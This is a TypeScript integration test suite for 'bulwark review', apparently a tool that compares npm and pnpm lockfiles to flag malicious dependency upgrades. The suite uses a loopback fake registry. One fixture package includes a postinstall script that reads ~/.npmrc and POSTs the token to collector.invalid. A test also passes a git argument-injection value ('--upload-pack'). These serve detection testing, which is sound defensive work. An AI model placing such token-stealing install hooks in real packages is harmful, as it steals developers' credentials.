import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTgz } from '../../src/tarball/testdata/make-tarball.js';
import { makeHome, repoRoot } from './run-cli.js';

// A loopback registry with realistic documents (publish times, publishers, maintainers,
// provenance) and test-built tarballs. Four packages change between the two lockfiles:
//   adder-fixture  1.0.0 → 1.0.1  turns: credential theft + postinstall, new publisher, no provenance
//   tidy-fixture   2.0.0 → 2.1.0  a refactor (benign)
//   fresh-fixture  0.1.0          added, clean
//   old-fixture    1.0.0          removed
// and steady-fixture 1.0.0 is in both (unchanged, never fetched).

const INDEX = 'module.exports = (a, b) => a + b;\n';
const TELEMETRY = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  "const https = require('https');",
  "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
  "const req = https.request('https://collector.invalid/t', { method: 'POST' });",
  'req.end(token);',
].join('\n');

type Release = {
  files: Record<string, string>;
  manifest?: Record<string, unknown>;
  publisher: string;
  provenance?: boolean;
};
const RELEASES: Record<string, Record<string, Release>> = {
  'adder-fixture': {
    '1.0.0': { files: { 'index.js': INDEX }, publisher: 'alice', provenance: true },
    '1.0.1': {
      files: { 'index.js': INDEX, 'telemetry.js': TELEMETRY },
      manifest: { scripts: { postinstall: 'node telemetry.js' } },
      publisher: 'mallory',
    },
  },
  'tidy-fixture': {
    '2.0.0': {
      files: { 'index.js': 'module.exports = function trim(s) { return s.trim(); };\n' },
      publisher: 'bob',
    },
    '2.1.0': {
      files: {
        'index.js': "module.exports = require('./lib/trim.js');\n",
        'lib/trim.js': 'module.exports = (s) => String(s).trim();\n',
      },
      publisher: 'bob',
    },
  },
  'fresh-fixture': {
    '0.1.0': { files: { 'index.js': 'exports.hello = () => "hi";\n' }, publisher: 'carol' },
  },
  'old-fixture': { '1.0.0': { files: { 'index.js': INDEX }, publisher: 'dave' } },
  'steady-fixture': { '1.0.0': { files: { 'index.js': INDEX }, publisher: 'erin' } },
};

const home = makeHome();
const tarballs = new Map<string, Buffer>();
const integrity = new Map<string, string>();
const requests: string[] = [];
let server: Server;
let registry = '';

const sri = (bytes: Buffer) => `sha512-${createHash('sha512').update(bytes).digest('base64')}`;

const packument = (name: string) => {
  const releases = RELEASES[name]!;
  const versions = Object.keys(releases);
  return {
    _id: name,
    name,
    'dist-tags': { latest: versions.at(-1) },
    maintainers: [{ name: 'alice', email: 'alice@example.invalid' }],
    time: {
      created: '2024-01-01T00:00:00.000Z',
      modified: '2024-03-01T00:00:00.000Z',
      ...Object.fromEntries(versions.map((v, i) => [v, new Date(Date.UTC(2024, i, 1)).toISOString()])),
    },
    versions: Object.fromEntries(
      versions.map((version) => {
        const release = releases[version]!;
        const key = `${name}@${version}`;
        return [
          version,
          {
            name,
            version,
            main: 'index.js',
            ...release.manifest,
            _npmUser: { name: release.publisher, email: `${release.publisher}@example.invalid` },
            maintainers: [{ name: release.publisher, email: `${release.publisher}@example.invalid` }],
            dist: {
              tarball: `${registry}${name}/-/${name}-${version}.tgz`,
              integrity: integrity.get(key),
              ...(release.provenance
                ? { attestations: { provenance: { predicateType: 'https://slsa.dev/provenance/v1' } } }
                : {}),
            },
          },
        ];
      }),
    ),
  };
};

/** A package-lock.json v3 pinning `pins` (name → version). */
const packageLock = (pins: Record<string, string>) =>
  `${JSON.stringify(
    {
      name: 'app',
      version: '1.0.0',
      lockfileVersion: 3,
      requires: true,
      packages: {
        '': {
          name: 'app',
          version: '1.0.0',
          dependencies: Object.fromEntries(Object.keys(pins).map((n) => [n, '*'])),
        },
        ...Object.fromEntries(
          Object.entries(pins).map(([name, version]) => [
            `node_modules/${name}`,
            {
              version,
              resolved: `${registry}${name}/-/${name}-${version}.tgz`,
              integrity: integrity.get(`${name}@${version}`),
            },
          ]),
        ),
      },
    },
    null,
    2,
  )}\n`;

/** A pnpm-lock.yaml v9 pinning `pins`: integrity only, the tarball URL comes from the registry document. */
const pnpmLock = (pins: Record<string, string>) =>
  [
    "lockfileVersion: '9.0'",
    '',
    'importers:',
    '',
    '  .:',
    '    dependencies:',
    ...Object.entries(pins).flatMap(([name, version]) => [
      `      ${name}:`,
      `        specifier: '*'`,
      `        version: ${version}`,
    ]),
    '',
    'packages:',
    '',
    ...Object.entries(pins).flatMap(([name, version]) => [
      `  ${name}@${version}:`,
      `    resolution: {integrity: ${integrity.get(`${name}@${version}`)}}`,
      '',
    ]),
    'snapshots:',
    '',
    ...(Object.keys(pins).length
      ? Object.entries(pins).flatMap(([name, version]) => [`  ${name}@${version}: {}`, ''])
      : []),
  ].join('\n');

const BASE = {
  'adder-fixture': '1.0.0',
  'tidy-fixture': '2.0.0',
  'old-fixture': '1.0.0',
  'steady-fixture': '1.0.0',
};
const HEAD = {
  'adder-fixture': '1.0.1',
  'tidy-fixture': '2.1.0',
  'fresh-fixture': '0.1.0',
  'steady-fixture': '1.0.0',
};
const project = join(home, 'project');
const BENIGN_BASE = { 'tidy-fixture': '2.0.0', 'steady-fixture': '1.0.0' };
const BENIGN_HEAD = { 'tidy-fixture': '2.1.0', 'steady-fixture': '1.0.0', 'fresh-fixture': '0.1.0' };

beforeAll(async () => {
  for (const [name, releases] of Object.entries(RELEASES)) {
    for (const [version, release] of Object.entries(releases)) {
      const bytes = await makeTgz([
        {
          name: 'package/package.json',
          content: JSON.stringify({ name, version, main: 'index.js', ...release.manifest }),
        },
        ...Object.entries(release.files).map(([file, content]) => ({ name: `package/${file}`, content })),
      ]);
      tarballs.set(`/${name}/-/${name}-${version}.tgz`, bytes);
      integrity.set(`${name}@${version}`, sri(bytes));
    }
  }
  server = createServer((req, res) => {
    const url = req.url ?? '';
    requests.push(url);
    const tarball = tarballs.get(url);
    if (tarball) {
      res.writeHead(200, { 'content-type': 'application/octet-stream' }).end(tarball);
      return;
    }
    const name = decodeURIComponent(url.slice(1));
    if (!RELEASES[name]) {
      res.writeHead(404, { 'content-type': 'application/json' }).end('{"error":"Not found"}');
      return;
    }
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(packument(name)));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  registry = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  mkdirSync(join(project, 'base'), { recursive: true });
  mkdirSync(join(project, 'head'), { recursive: true });
  mkdirSync(join(project, 'pnpm-base'), { recursive: true });
  mkdirSync(join(project, 'pnpm-head'), { recursive: true });
  writeFileSync(join(project, 'base/package-lock.json'), packageLock(BASE));
  writeFileSync(join(project, 'head/package-lock.json'), packageLock(HEAD));
  writeFileSync(join(project, 'pnpm-base/pnpm-lock.yaml'), pnpmLock(BENIGN_BASE));
  writeFileSync(join(project, 'pnpm-head/pnpm-lock.yaml'), pnpmLock(BENIGN_HEAD));
  writeFileSync(join(project, '.npmrc'), `registry=${registry}\n`);
});

afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

/** Runs the CLI without blocking this process, so the loopback registry can answer it. */
const runCli = (
  args: string[],
  options: { cwd?: string; home?: string } = {},
): Promise<{ status: number | null; stdout: string; stderr: string }> =>
  new Promise((resolve) => {
    const env: NodeJS.ProcessEnv = { ...process.env, BULWARK_HOME: options.home ?? home, NO_COLOR: '1' };
    delete env.BULWARK_DB;
    delete env.FORCE_COLOR;
    delete env.npm_config_registry;
    delete env.NPM_CONFIG_REGISTRY;
    const child = spawn(process.execPath, [join(repoRoot, 'bin/bulwark.js'), ...args], {
      cwd: options.cwd ?? project,
      env,
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk) => {
      stdout += chunk;
    });
    child.stderr.on('data', (chunk) => {
      stderr += chunk;
    });
    child.on('close', (status) => resolve({ status, stdout, stderr }));
  });

const byName = (report: { changes: { name: string }[] }) =>
  Object.fromEntries(report.changes.map((c) => [c.name, c])) as Record<string, Record<string, unknown>>;

describe('bulwark review (bundled CLI, loopback registry)', () => {
  it('calls the turned upgrade malicious, the refactor benign, analyses the addition, lists the removal; exit 1', async () => {
    const run = await runCli(['review', 'base/package-lock.json', 'head/package-lock.json', '-f', 'json']);
    expect(run.stderr).toBe('');
    expect(run.status).toBe(1);
    const report = JSON.parse(run.stdout);
    expect(report.verdict).toBe('malicious');
    expect(report.summary).toMatchObject({
      changes: 4,
      upgraded: 2,
      added: 1,
      removed: 1,
      malicious: 1,
      benign: 3,
      cached: 0,
    });
    const changes = byName(report);
    expect(changes['adder-fixture']).toMatchObject({
      kind: 'upgraded',
      from: '1.0.0',
      to: '1.0.1',
      verdict: 'malicious',
      transition: 'malicious',
      added: expect.arrayContaining(['install-scripts', 'network']),
      diff: {
        verdict: 'malicious',
        hosts: ['collector.invalid'],
        installScripts: [{ script: 'postinstall', to: 'node telemetry.js', runsFiles: ['telemetry.js'] }],
      },
    });
    const adder = changes['adder-fixture'] as {
      findings: { rule: string; file: string | null }[];
      diff: { metadata: { kind: string; severity: string }[] };
    };
    expect(adder.findings.length).toBeGreaterThan(0);
    expect(adder.diff.metadata).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'publisher-change', severity: 'high' }),
        expect.objectContaining({ kind: 'trust-downgrade', severity: 'high' }),
      ]),
    );
    expect(changes['tidy-fixture']).toMatchObject({
      kind: 'upgraded',
      verdict: 'benign',
      findings: [],
      reasons: [],
    });
    expect(changes['fresh-fixture']).toMatchObject({
      kind: 'added',
      from: null,
      to: '0.1.0',
      verdict: 'benign',
      status: 'analysed',
      assessment: { verdict: 'clean' },
    });
    expect(changes['old-fixture']).toMatchObject({
      kind: 'removed',
      from: '1.0.0',
      to: null,
      status: 'not-needed',
    });
    expect(changes['steady-fixture']).toBeUndefined();
    expect(requests.some((r) => r.includes('steady-fixture') || r.includes('old-fixture'))).toBe(false);
  });

  it('a second review reads every result from the cache: no tarball fetched, same verdicts', async () => {
    const before = requests.length;
    const run = await runCli(['review', 'base/package-lock.json', 'head/package-lock.json', '-f', 'json']);
    expect(run.status).toBe(1);
    const report = JSON.parse(run.stdout);
    expect(report.summary).toMatchObject({ cached: 3, malicious: 1 });
    expect(requests.slice(before).filter((r) => r.endsWith('.tgz'))).toEqual([]);
    // and offline, from the caches alone
    const offline = await runCli([
      'review',
      'base/package-lock.json',
      'head/package-lock.json',
      '-f',
      'json',
      '--offline',
    ]);
    expect(offline.status).toBe(1);
    expect(JSON.parse(offline.stdout).summary).toMatchObject({ cached: 3, malicious: 1 });
  });

  it('renders Markdown for a pull request naming the malicious package, and writes it with --output', async () => {
    const out = join(home, 'review.md');
    const run = await runCli([
      'review',
      'base/package-lock.json',
      'head/package-lock.json',
      '-f',
      'markdown',
      '-o',
      out,
    ]);
    expect(run.status).toBe(1);
    expect(run.stdout).toBe('');
    const { readFileSync } = await import('node:fs');
    const text = readFileSync(out, 'utf8');
    expect(text.split('\n')[0]).toBe('### 🔴 Bulwark dependency review: malicious');
    expect(text).toContain('| 🔴 malicious | upgraded | `adder-fixture` | `1.0.0` | `1.0.1` |');
    expect(text).toContain(
      '<summary>🔴 <code>adder-fixture</code> 1.0.0 → 1.0.1 (upgraded): <b>malicious</b></summary>',
    );
    expect(text).toContain('<details><summary>3 benign changes</summary>');
  });

  it('prints the table with the overall verdict first; --fail-on never exits 0', async () => {
    const run = await runCli([
      'review',
      'base/package-lock.json',
      'head/package-lock.json',
      '--fail-on',
      'never',
    ]);
    expect(run.status).toBe(0);
    const lines = run.stdout.split('\n');
    expect(lines[0]).toBe('bulwark review base/package-lock.json → head/package-lock.json: MALICIOUS');
    expect(lines[1]).toBe('  4 changes (2 upgraded, 1 added, 1 removed): 1 malicious');
    expect(lines[3]).toBe('MALICIOUS   upgraded   adder-fixture 1.0.0 → 1.0.1');
  });

  it('reads pnpm lockfiles too (tarball URLs from the registry document); a benign change exits 0', async () => {
    const run = await runCli(
      [
        'review',
        'pnpm-base/pnpm-lock.yaml',
        'pnpm-head/pnpm-lock.yaml',
        '-f',
        'json',
        '--fail-on',
        'suspicious',
      ],
      { home: makeHome() },
    );
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    const report = JSON.parse(run.stdout);
    expect(report).toMatchObject({
      verdict: 'benign',
      summary: { changes: 2, upgraded: 1, added: 1, benign: 2 },
    });
  });
});

describe('bulwark review: the same version pinned with other bytes', () => {
  it('calls a repinned version suspicious, analyses the bytes the head pins, and names both integrities', async () => {
    const dir = join(project, 'repinned');
    mkdirSync(join(dir, 'base'), { recursive: true });
    mkdirSync(join(dir, 'head'), { recursive: true });
    const head = packageLock({ 'steady-fixture': '1.0.0' });
    const real = integrity.get('steady-fixture@1.0.0')!;
    const other = `sha512-${Buffer.alloc(64, 7).toString('base64')}`;
    writeFileSync(join(dir, 'base/package-lock.json'), head.replace(real, other));
    writeFileSync(join(dir, 'head/package-lock.json'), head);
    const run = await runCli(
      ['review', 'repinned/base/package-lock.json', 'repinned/head/package-lock.json', '-f', 'json'],
      {
        home: makeHome(),
      },
    );
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    const report = JSON.parse(run.stdout);
    expect(report).toMatchObject({
      verdict: 'suspicious',
      summary: { changes: 1, repinned: 1, suspicious: 1 },
    });
    const [change] = report.changes;
    expect(change).toMatchObject({ kind: 'repinned', name: 'steady-fixture', from: '1.0.0', to: '1.0.0' });
    expect(change.reasons.at(-1)).toMatch(
      /^1\.0\.0 now pins other bytes \(integrity sha512-BwcHBwcHBwcH… → sha512-.{12}…\)/,
    );
  });
});

describe('bulwark review --base <git-ref>', () => {
  const git = (cwd: string, ...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.invalid', ...args], {
      cwd,
      stdio: 'pipe',
    });
  let repo = '';

  beforeAll(() => {
    repo = mkdtempSync(join(tmpdir(), 'bulwark-review-git-'));
    git(repo, 'init', '-q', '-b', 'main');
    writeFileSync(join(repo, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0' }));
    writeFileSync(join(repo, '.npmrc'), `registry=${registry}\n`);
    writeFileSync(join(repo, 'package-lock.json'), packageLock(BASE));
    git(repo, 'add', '.');
    git(repo, 'commit', '-q', '-m', 'base');
    writeFileSync(join(repo, 'package-lock.json'), packageLock(HEAD));
  });

  it('reads the base lockfile from git and the head from the working tree', async () => {
    const run = await runCli(['review', '--base', 'main', '-f', 'json'], { cwd: repo });
    expect(run.stderr).toBe('');
    expect(run.status).toBe(1);
    const report = JSON.parse(run.stdout);
    expect(report).toMatchObject({
      verdict: 'malicious',
      base: 'main:package-lock.json',
      head: 'package-lock.json',
    });
    expect(report.summary).toMatchObject({ changes: 4, upgraded: 2, added: 1, removed: 1 });
  });

  it('takes an explicit head lockfile and a ref like HEAD', async () => {
    const run = await runCli(['review', '--base', 'HEAD', join(repo, 'package-lock.json'), '-f', 'json'], {
      cwd: project,
    });
    expect(run.status).toBe(1);
    expect(JSON.parse(run.stdout).summary.changes).toBe(4);
  });

  it('answers a bad ref, a path missing at the ref, or no repository with one line and exit 2', async () => {
    writeFileSync(join(repo, 'untracked'), '');
    mkdirSync(join(repo, 'sub'), { recursive: true });
    writeFileSync(join(repo, 'sub/package-lock.json'), packageLock(HEAD));
    const outside = mkdtempSync(join(tmpdir(), 'bulwark-review-nogit-'));
    writeFileSync(join(outside, 'package-lock.json'), packageLock(HEAD));
    const cases: [string[], string, RegExp][] = [
      [['review', '--base', 'no-such-branch'], repo, /--base no-such-branch: is not a commit/],
      [['review', '--base=--upload-pack=x'], repo, /is not a git revision/],
      [
        ['review', '--base', 'main', 'sub/package-lock.json'],
        repo,
        /main:sub\/package-lock.json: does not exist at that revision/,
      ],
      [['review', '--base', 'main'], outside, /is not inside a git repository/],
    ];
    for (const [args, cwd, message] of cases) {
      const run = await runCli(args, { cwd });
      expect(run.status, args.join(' ')).toBe(2);
      expect(run.stderr.split('\n').filter(Boolean), args.join(' ')).toHaveLength(1);
      expect(run.stderr).toMatch(message);
    }
  });
});

describe('bulwark review: bad input', () => {
  it('answers with one line and exit code 2', async () => {
    writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'app', dependencies: { a: '^1' } }));
    writeFileSync(join(project, 'broken.json'), '{"lockfileVersion": 3, "packages": ');
    const cases = [
      ['review', 'base/package-lock.json', 'missing/package-lock.json'],
      ['review', 'base/package-lock.json'],
      ['review'],
      ['review', '--base', 'main', 'a', 'b'],
      ['review', 'base/package-lock.json', 'head/package-lock.json', '--fail-on', 'sometimes'],
      ['review', 'base/package-lock.json', 'head/package-lock.json', '--format', 'sarif'],
      ['review', 'base/package-lock.json', 'package.json'],
      ['review', 'base/package-lock.json', 'broken.json'],
    ];
    for (const args of cases) {
      const run = await runCli(args);
      expect(run.status, args.join(' ')).toBe(2);
      expect(run.stderr.split('\n').filter(Boolean), args.join(' ')).toHaveLength(1);
      expect(run.stderr).toMatch(/^bulwark: /);
    }
  });
});
